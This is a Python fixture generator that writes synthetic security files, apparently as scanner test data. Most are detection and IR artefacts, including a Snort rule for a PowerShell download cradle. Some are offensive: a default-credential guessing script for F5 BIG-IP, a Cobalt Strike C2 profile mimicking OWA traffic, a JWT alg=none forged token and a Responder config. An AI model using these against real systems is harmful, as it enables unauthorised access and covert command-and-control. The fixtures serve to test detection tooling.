    """, S=sha1(), C=cert_pem(), F=sha256()), "threat report with a C2 certificate")
DV("text", "pubkey", "iocs/ir-2024-031/authorized_keys.attacker", "\n".join([
    "# keys the actor added to /root/.ssh/authorized_keys on WEB03 (IR-2024-031)",
    ssh_pub("root@kali"), ssh_pub("x@vps-1872"),
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ" + chars(516, B64) + "= admin@DESKTOP-7Q2F",
    "# removed 2024-03-03 14:10 UTC"]) + "\n", "OpenSSH authorized_keys format")
DV("pgp", "pubkey", ".well-known/pgp-key.txt", "-----BEGIN PGP PUBLIC KEY BLOCK-----\nComment: CORP PSIRT <psirt@corp.example>\n\n"
   + "\n".join(chars(64, B64) for _ in range(9)) + "\n=" + chars(4, B64) + "\n-----END PGP PUBLIC KEY BLOCK-----\n",
   "RFC 9116 security.txt Encryption key; OpenPGP armor")
DV("python", "default-creds", "exploits/CVE-2020-5902/check_defaults.py", """\
    \"\"\"Default credential check run before the exploit (documented vendor defaults only).\"\"\"
    import requests

    DEFAULTS = [
        ("admin", "admin"),      # F5 BIG-IP TMUI default
        ("root", "default"),     # F5 BIG-IP console default
        ("root", "calvin"),      # Dell iDRAC default
        ("admin", "password"),
    ]


    def try_defaults(base):
        for user, pw in DEFAULTS:
            r = requests.get(f"{base}/mgmt/tm/sys/version", auth=(user, pw), verify=False, timeout=5)
            if r.status_code == 200:
                return user, pw
        return None
    """, "vendor documentation: default credentials of F5 BIG-IP and Dell iDRAC")
DV("text", "default-creds", "scans/acme-ext/nmap-default-accounts.txt", """\
    Nmap scan report for 203.0.113.60
    PORT     STATE SERVICE
    8080/tcp open  http-proxy
    | http-default-accounts:
    |   [Apache Tomcat] at /manager/html/
    |     tomcat:tomcat
    |   [Grafana] at /login
    |_    admin:admin
    Nmap done: 1 IP address (1 host up) scanned in 12.31 seconds
    """, "Nmap NSE http-default-accounts output")
DV("markdown", "doc-example", "writeups/ctf-2024/jwt-none.md", """\
    # web/tokenland - alg=none

    The app accepts the sample token from jwt.io unchanged:

    `eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c`

    so the signature is never checked. Swapping the header for `{"alg":"none"}` and dropping
    the signature gives admin: `eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.`
    """, "jwt.io debugger sample token; CTF writeup")
DV("c2-profile", "malleable", "infra/c2/profiles/office365.profile", """\
    set sleeptime "45000";
    set jitter    "30";
    set useragent "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36";

    http-get {
        set uri "/owa/service.svc";
        client {
            header "Accept" "*/*";
            metadata {
                base64url;
                prepend "MSPAuth=";
                header "Cookie";
            }
        }
        server {
            output { netbios; prepend "<<P>>"; print; }
        }
    }
    """, "Cobalt Strike Malleable C2 profile language", P=chars(24, B64))
DV("json", "beacon-config", "analysis/ir-2024-052/beacon_config.json", """\
    {
      "BeaconType": ["HTTPS"],
      "Port": 443,
      "SleepTime": 45000,
      "Jitter": 30,
      "C2Server": "cdn-update.example,/owa/service.svc",
      "UserAgent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
      "Watermark": 987654321,
      "PublicKey_MD5": "<<M>>",
      "PublicKey": "MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQ<<K>>AQAB",
      "Spawnto_x64": "%windir%\\\\sysnative\\\\dllhost.exe"
    }
    """, "SentinelOne CobaltStrikeParser output (parse_beacon_config.py --json)", M=md5(), K=chars(160, B64))
# ---------------------------------------------------------------- repository look-alikes (decoys)
DV("pre-commit", "commit-sha", ".pre-commit-config.yaml", """\
    repos:
      - repo: https://github.com/pre-commit/pre-commit-hooks
        rev: <<A>>  # frozen: v4.6.0
        hooks:
          - id: check-yaml
          - id: detect-private-key
      - repo: https://github.com/Yara-Rules/yara-validator
        rev: <<B>>
        hooks:
          - id: yara-validate
      - repo: https://github.com/SigmaHQ/pySigma
        rev: <<C>>
        hooks:
          - id: sigma-check
    """, "pre-commit docs: rev pinned to a commit SHA", A=sha1(), B=sha1(), C=sha1())
DV("requirements", "checksum", "requirements.txt", """\
    # pip-compile --generate-hashes requirements.in
    pymisp==2.4.190 \\
        --hash=sha256:<<A>> \\
        --hash=sha256:<<B>>
    shodan==1.31.0 \\
        --hash=sha256:<<C>>
    vt-py==0.18.2 \\
        --hash=sha256:<<D>>
    yara-python==4.5.1 \\
        --hash=sha256:<<E>>
    """, "pip docs: hash-checking mode", A=sha256(), B=sha256(), C=sha256(), D=sha256(), E=sha256())
DV("json", "warninglist", "misp/warninglists/corp-scanners/list.json", """\
    {
      "name": "CORP authorised scanners",
      "version": 20240611,
      "description": "Our own vulnerability scanners - never alert on these",
      "type": "cidr",
      "matching_attributes": ["ip-src", "ip-dst", "ip-src|port", "ip-dst|port"],
      "list": [
        "198.51.100.16/28",
        "203.0.113.200/29",
        "2001:db8:42::/48"
      ]
    }
    """, "MISP/misp-warninglists list.json format")
DV("htpasswd", "hash", "nginx/kibana.htpasswd", "\n".join(f"{u}:{bcrypt_hash()}" for u in [
    "analyst1", "analyst2", "ir-lead", "soc-manager", "readonly"]) + "\n", "Apache htpasswd -B (bcrypt verifiers)")
DV("yaml", "secret-manager", "config/enrichment.yaml", """\
    providers:
      virustotal:
        enabled: true
        api_key: vault:secret/data/soc/virustotal#api_key
        rate_limit_per_min: 500
      shodan:
        enabled: true
        api_key: vault:secret/data/soc/shodan#api_key
      greynoise:
        enabled: false
        api_key: ""
    cache:
      backend: redis
      url: redis://redis.soc.svc:6379/3
      ttl: 86400
    """, "HashiCorp Vault KV v2 path references (vault-env style)")
DV("python", "secret-manager", "lambda/enrich/handler.py", """\
    import json
    import os

    import boto3

    ssm = boto3.client("ssm")
    VT_KEY = ssm.get_parameter(Name="/soc/enrichment/virustotal_api_key", WithDecryption=True)["Parameter"]["Value"]
    HEC_TOKEN = os.environ["SPLUNK_HEC_TOKEN"]


    def handler(event, context):
        finding = json.loads(event["Records"][0]["Sns"]["Message"])
        return {"vt": bool(VT_KEY), "finding": finding["Id"]}
    """, "boto3 docs: SSM get_parameter WithDecryption")
DV("markdown", "placeholder", "README.md", """\
    # ti-enricher

    Enriches SIEM alerts with Shodan, VirusTotal and GreyNoise context.

    ## Setup

    ```bash
    export SHODAN_API_KEY=<your-shodan-key>
    export VT_API_KEY=<your-virustotal-key>
    export GREYNOISE_API_KEY=...
    python -m enricher --config config/enrichment.yaml
    ```

    Keys live in Vault under `secret/soc/*`; ask #soc-platform for access.
    """, "README convention")
DV("csv", "hashes", "splunk/apps/soc_detections/lookups/malware_hashes.csv", "sha256,family,added_by,added\n" + "\n".join(
    f"{sha256()},{f},ir-team,2024-0{i + 1}-15" for i, f in enumerate(["qakbot", "icedid", "lockbit3", "asyncrat", "remcos", "lumma"])) + "\n",
   "Splunk docs: CSV lookups")
DV("csv", "cert-fingerprint", "feeds/sslblacklist.csv", "# abuse.ch SSLBL - SSL Certificate Blacklist (SHA1 Fingerprints)\n# Listingdate,SHA1,Listingreason\n" + "\n".join(
    f"2024-06-1{i} 0{i}:12:44,{sha1()},{r} C&C" for i, r in enumerate(["QakBot", "Dridex", "AsyncRAT", "BitRAT", "Gozi"])) + "\n",
   "abuse.ch SSLBL CSV")
DV("text", "fuzzy-hashes", "iocs/ir-2024-031/similarity.txt", "\n".join([
    "# imphash / ssdeep / tlsh of the stealer cluster",
    "imphash  " + md5(),
    "imphash  " + md5(),
    "ssdeep   3072:" + chars(40, B64) + ":" + chars(20, B64),
    "ssdeep   3072:" + chars(38, B64) + ":" + chars(22, B64),
    "tlsh     T1" + hexs(70, upper=True)]) + "\n", "ssdeep and TLSH digest formats")
DV("json", "osquery-pack", "osquery/packs/credential-access.conf", """\
    {
      "platform": "windows",
      "queries": {
        "lsass_handles": {
          "query": "SELECT p.name, p.path, h.* FROM processes p JOIN process_open_handles h USING (pid) WHERE h.object_name LIKE '%lsass%';",
          "interval": 3600,
          "description": "Processes holding a handle to lsass"
        },
        "unattend_files": {
          "query": "SELECT path, size FROM file WHERE path LIKE 'C:\\\\Windows\\\\Panther\\\\%unattend%.xml';",
          "interval": 86400,
          "description": "Unattend files can hold cleartext passwords"
        }
      }
    }
    """, "osquery docs: query packs")
DV("xml", "sysmon", "sysmon/sysmonconfig.xml", """\
    <Sysmon schemaversion="4.90">
      <HashAlgorithms>md5,sha256,IMPHASH</HashAlgorithms>
      <CheckRevocation/>
      <EventFiltering>
        <RuleGroup name="" groupRelation="or">
          <ProcessAccess onmatch="include">
            <TargetImage condition="is">C:\\Windows\\system32\\lsass.exe</TargetImage>
          </ProcessAccess>
        </RuleGroup>
        <RuleGroup name="" groupRelation="or">
          <FileCreate onmatch="include">
            <TargetFilename condition="contains">\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data</TargetFilename>
          </FileCreate>
        </RuleGroup>
      </EventFiltering>
    </Sysmon>
    """, "Sysinternals Sysmon configuration schema")
DV("vcr-yaml", "filtered", "tests/cassettes/test_vt_file_report.yaml", """\
    interactions:
    - request:
        body: null
        headers:
          Accept: ['application/json']
          x-apikey: ['<VT_API_KEY>']
        method: GET
        uri: https://www.virustotal.com/api/v3/files/<<H>>
      response:
        body: {string: '{"data": {"attributes": {"last_analysis_stats": {"malicious": 61, "undetected": 9}}}}'}
        headers:
          Content-Type: [application/json]
        status: {code: 200, message: OK}
    version: 1
    """, "vcrpy docs: filter_headers", H=sha256())
DV("python", "test-value", "tests/test_abuseipdb.py", """\
    import responses

    from enricher.providers.abuseipdb import AbuseIPDB


    @responses.activate
    def test_check_returns_score():
        responses.get("https://api.abuseipdb.com/api/v2/check",
                      json={"data": {"abuseConfidenceScore": 100}},
                      match=[responses.matchers.header_matcher({"Key": "test-key"})])
        client = AbuseIPDB(api_key="test-key")
        assert client.check("192.0.2.1") == 100
    """, "responses library docs: header_matcher")
DV("markdown", "redacted", "reports/acme-2024/findings/INT-07.md", """\
    ## INT-07 Cleartext credentials in public share (High)

    `\\\\fs01\\Public\\Documents\\creds.txt` was readable by Domain Users and held:

    ```
    k.osei / P@**********
    svc_print / Wi********!
    ```

    (values redacted in the report; full values in the encrypted evidence archive)

    **Recommendation:** remove the file, rotate both credentials, audit share ACLs.
    """, "pentest report finding with redacted values")
DV("markdown", "commit-sha", "CHANGELOG.md", """\
    # Changelog

    ## 2.3.0 - 2024-06-10
    - Rotate all provider keys to Vault-backed secrets (<<A>>)
    - Drop hardcoded Shodan key from `monitor/` (<<B>>); key revoked the same day
    - Add GreyNoise community fallback (<<C>>)

    ## 2.2.1 - 2024-05-02
    - Fix VT rate limiting (<<D>>)
    """, "Keep a Changelog format with commit SHAs", A=sha1()[:12], B=sha1(), C=sha1()[:7], D=sha1()[:7])
DV("snort", "b64-content", "snort/rules/local.rules", """\
    # Snort 3 local rules
    alert http (msg:"CORP Basic auth brute force"; flow:to_server,established; http_header; content:"Authorization: Basic ",fast_pattern; detection_filter:track by_src, count 20, seconds 60; sid:1000201; rev:2;)
    alert http (msg:"CORP default creds admin:admin in Basic auth"; flow:to_server,established; http_header; content:"YWRtaW46YWRtaW4="; sid:1000202; rev:1;)
    alert tcp (msg:"CORP SMBv1 negotiate"; flow:to_server,established; content:"|FF 53 4D 42 72|"; offset:4; depth:5; sid:1000203; rev:1;)
    alert http (msg:"CORP PowerShell download cradle"; http_client_body; content:"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"; sid:1000204; rev:1;)
    alert icmp (msg:"CORP large ICMP payload"; dsize:>800; sid:1000205; rev:1;)
    """, "Snort 3 rule writing docs")
DV("responder-conf", "config", "tools/Responder/Responder.conf", """\
    [Responder Core]
    ; Servers to start
    SQL = On
    SMB = On
    HTTP = On
    HTTPS = On
    LDAP = On
    ; Custom challenge. Use "Random" for generating a random challenge for each requests (Default)
    Challenge = Random
    ; SQLite Database file
    Database = Responder.db
    SessionLog = Responder-Session.log
    """, "lgandx/Responder Responder.conf")
DV("markdown", "ioc", "cheatsheets/shodan-queries.md", """\
    # Shodan pivots we use

    | what | query |
    |------|-------|
    | Cobalt Strike default cert | `ssl.cert.serial:146473198` |
    | C2 favicon | `http.favicon.hash:-1399433489` |
    | JARM of Sliver | `ssl.jarm:<<J>>` |
    | exposed Elastic without auth | `product:elastic port:9200 -"security_exception"` |
    | same SSH host key | `ssh.fingerprint:"<<F>>"` |
    """, "Shodan search filters reference", J=hexs(62), F=":".join(hexs(32)[i:i + 2] for i in range(0, 32, 2)))
DV("python", "env", "enricher/settings.py", """\
    from pydantic import SecretStr
    from pydantic_settings import BaseSettings, SettingsConfigDict


    class Settings(BaseSettings):
        model_config = SettingsConfigDict(env_prefix="ENRICH_", env_file=".env", secrets_dir="/run/secrets")

        vt_api_key: SecretStr | None = None
        shodan_api_key: SecretStr | None = None
        greynoise_api_key: SecretStr | None = None
        hec_url: str = "https://hec.splunk.corp.internal:8088"
        hec_token: SecretStr | None = None


    settings = Settings()
    """, "pydantic-settings docs: SecretStr, secrets_dir")
DV("python", "keyring", "tools/ti_cli/auth.py", """\
    import getpass

    import keyring

    SERVICE = "ti-cli"


    def get_key(provider: str) -> str:
        key = keyring.get_password(SERVICE, provider)
        if key is None:
            key = getpass.getpass(f"{provider} API key: ")
            keyring.set_password(SERVICE, provider, key)
        return key
    """, "keyring docs: get_password/set_password")
DV("text", "pypykatz-null", "reports/ir-2024-052/lsass-triage.txt", """\
    == LogonSession ==
    authentication_id 1412389 (158d25)
    session_id 2
    username svc_print
    domainname CORP
    logon_server DC02
            == MSV ==
                    Username: svc_print
                    Domain: CORP
                    LM: NA
                    NT: <REDACTED by IR - see evidence vault>
            == WDIGEST [158d25]==
                    username svc_print
                    password (null)
    """, "pypykatz lsa minidump output, redacted for the report")
DV("ini", "placeholder", "feeds/rf_config.ini.example", """\
    [recordedfuture]
    token = <RF_API_TOKEN>
    risklists = ip,domain,hash,url
    min_risk_score = 65

    [output]
    path = /var/lib/ti-feeds/rf
    format = csv
    """, "example config")
DV("yaml", "uuid", "velociraptor/artifacts/Custom.Windows.Hunt.Stealer.yaml", """\
    name: Custom.Windows.Hunt.Stealer
    description: Hunt for the IR-2024-031 stealer by hash and mutex
    author: CORP IR
    parameters:
      - name: Hashes
        default: |
          <<H1>>
          <<H2>>
      - name: Mutex
        default: "Global\\\\<<M>>"
    sources:
      - query: |
          SELECT * FROM hash(path=OSPath) WHERE SHA256 IN split(string=Hashes, sep="\\n")
    """, "Velociraptor artifact YAML", H1=sha256(), H2=sha256(), M=uuid_s().upper())
